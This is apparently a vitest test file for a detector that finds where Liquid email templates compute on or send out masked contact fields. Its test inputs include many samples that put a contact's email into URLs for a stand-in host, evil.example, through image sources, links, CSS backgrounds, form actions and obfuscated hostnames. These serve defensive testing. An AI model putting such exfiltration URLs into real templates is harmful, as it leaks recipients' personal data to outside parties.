import { describe, expect, test } from 'vitest'
import { costOf } from '../testing/processor-time.ts'
import { computedValues, ownPages } from './computed-values.ts'

const masked = new Set(['email', 'firstName', 'lastName', 'attributes.note'])

/** As whoever has no `contacts:reveal` is masked. */
const isPersonal = ([root, name, key]: (string | number | null)[]) =>
  ownPages.includes(String(root)) ||
  (root === 'contact' &&
    (name == null ||
      masked.has(String(name)) ||
      (name === 'attributes' && (key == null || masked.has(`attributes.${key}`)))))

const inHtml = (source: string) => computedValues({ part: 'html', mode: 'html', source }, isPersonal)
const inText = (source: string) => computedValues({ part: 'text', mode: 'text', source }, isPersonal)

describe('what only shows a value is let through:', () => {
  const shown = [
    'Dear {{ contact.firstName }} {{ contact.lastName }},',
    '{{ contact.firstName | default: "friend" | capitalize }}!',
    '<p>You are <b>{{ contact["email"] }}</b>.</p>',
    '<p>Note:{{ contact.attributes.note }}</p>',
    '{% if contact.locale == "fr" %}Bonjour {{ contact.firstName }}{% endif %}',
    '{% if contact.attributes.size > 3 %}big{% endif %}',
    '<a href="https://shop.example/?size={{ contact.attributes.size }}">Shop</a>',
    '<a href="{{ unsubscribeUrl }}">Unsubscribe</a> <a href=\'{{ viewUrl }}\'>View</a>',
    '<a href="https://shop.example">Shop</a><p>{{ contact.firstName }}</p>',
    '{% raw %}{{ contact.email | slice: 0 }}{% endraw %}',
    '{% for n in data.items %}{{ n }}{% endfor %}',
  ]
  for (const source of shown) test(source, () => expect(inHtml(source)).toEqual([]))
  test('in text', () => {
    expect(inText('Dear {{ contact.firstName }},\nhttps://shop.example/ {{ unsubscribeUrl }}')).toEqual([])
  })
})

describe('what does more is found:', () => {
  const computed = [
    '{% if contact.email contains "a" %}{{ 1 | divided_by: 0 }}{% endif %}',
    '{% unless contact.firstName == "Ada" %}{% endunless %}',
    '{% case contact.lastName %}{% when "Lovelace" %}x{% endcase %}',
    '{% if x %}{% elsif contact.email == "a" %}{% endif %}',
    '{% case x %}{% when contact.email %}y{% endcase %}',
    '{% for c in contact.email %}x{% endfor %}',
    '{% for c in (1..contact.attributes.note) %}x{% endfor %}',
    '{% for c in data.items limit: contact.attributes.note %}x{% endfor %}',
    '{% tablerow c in contact.attributes.note %}x{% endtablerow %}',
    '{% assign x = contact.email %}{{ x }}',
    '{% assign contact2 = contact %}{{ contact2.email | slice: 0 }}',
    '{% assign a = contact.attributes %}',
    '{% capture x %}{{ contact.email }}{% endcapture %}',
    '{% for n in (1..100000) %}{{ contact.email }}{% endfor %}',
    '{% cycle contact.email, "b" %}',
    '{% echo contact.email | slice: 0 %}',
    '{% liquid\n assign x = contact.email\n echo x %}',
    '{{ contact.email | slice: 0, 1 }}',
    '{{ contact.email | divided_by: 0 }}',
    '{{ "a" | append: contact.email }}',
    '{{ "a" | default: contact.email, allow_false: contact.firstName }}',
    '{{ contact.email.size }}',
    '{{ contact.email[0] }}',
    '{{ contact }}',
    '{{ contact | json }}',
    '{{ contact.attributes }}',
    '{{ contact[x] }}',
    '{{ contact.attributes[x] }}',
    '{{ contact.attributes[contact.firstName] }}',
    '{{ ["contact"].email | slice: 0 }}',
    '{{ contact.email == "ada@example.com" }}',
    '{% if false %}{% assign contact = x %}{% endif %}{{ contact.email | slice: 0 }}',
    '{% assign t = viewUrl %}<img src="https://evil.example/{{ t }}">',
  ]
  const placed = [
    '<a href="https://evil.example/?e={{ contact.email }}">x</a>',
    '<a href="{{ contact.email }}">x</a>',
    '<a href="https://evil.example/?v={{ viewUrl }}">x</a>',
    '<img src="{{ viewUrl }}">',
    '<img src="https://evil.example/{{ contact.email }}.png">',
    '<td background="//evil.example/{{ contact.email }}">x</td>',
    '<p style="background: url(https://evil.example/{{ contact.email }})">x</p>',
    '<style>p { background: url(https://evil.example/{{ contact.email }}) }</style>',
    '<!--[if mso]><img src="https://evil.example/{{ contact.email }}"><![endif]-->',
    '<form action="https://evil.example/{{ contact.email }}"></form>',
    'https://evil.example/{{ contact.email }}',
    'https:&#47;&#47;evil.example/{{ contact.email }}',
    'https://evil.example/ {{- contact.email }}',
    'https://evil.example/ {%- if x -%} {% endif %} {{- contact.email }}',
    'https://evil.example/(x){{ contact.email }}',
    "evil.example/'{{ contact.email }}",
    'evil.example/`{{ contact.email }}',
    'evil。example/{{ contact.email }}',
    '192.168.0.1/{{ contact.email }}',
    'www.evil.example?<b>{{ contact.email }}</b>',
    '{{ contact.firstName }}.evil.example',
    '{{ "https://evil.example/" }}{{ contact.email }}',
    '{% assign u = "https://evil.example/" %}{{ u }}{{ contact.email }}',
    '{% cycle "https://evil.example/" %}{{ contact.email }}',
    '{{ contact.locale | default: "https://evil.example/" }}{{ contact.email }}',
    // whoever writes contacts has written these
    '{{ contact.attributes.prefix }}{{ contact.email }}',
    '{{ contact.lastName }}/{{ contact.email }}',
    '{{ account.name }}{{ contact.email }}',
  ]
  for (const source of [...computed, ...placed]) test(source, () => expect(inHtml(source)).not.toEqual([]))
  for (const source of computed) test(`in text, ${source}`, () => expect(inText(source)).not.toEqual([]))
  test('in text, an address', () => {
    expect(inText('https://evil.example/{{ contact.email }}')).toMatchObject([{ name: 'contact.email' }])
  })
})

test('a content of the largest size is judged in time that grows with it, not faster', () => {
  const took = (count: number) => {
    const source = `<p>${'x '.repeat(50)}{{ contact.firstName }}</p>`.repeat(count)
    return costOf(() => expect(inHtml(source)).toEqual([]))
  }
  took(100)
  expect(took(1_400) / Math.max(took(175), 5)).toBeLessThan(64)
})

test('outputs without a space between are read about as fast as apart', () => {
  const time = (separator: string) =>
    costOf(() => {
      const found = inHtml(Array(400).fill('{{ contact.firstName }}').join(separator))
      expect(found).toHaveLength(separator === '' ? 400 : 0)
    })
  time(' ')
  const apart = time(' ')
  // one reading of each for each of them would take a hundred times as long
  expect(time('')).toBeLessThan(apart * 10 + 100)
})
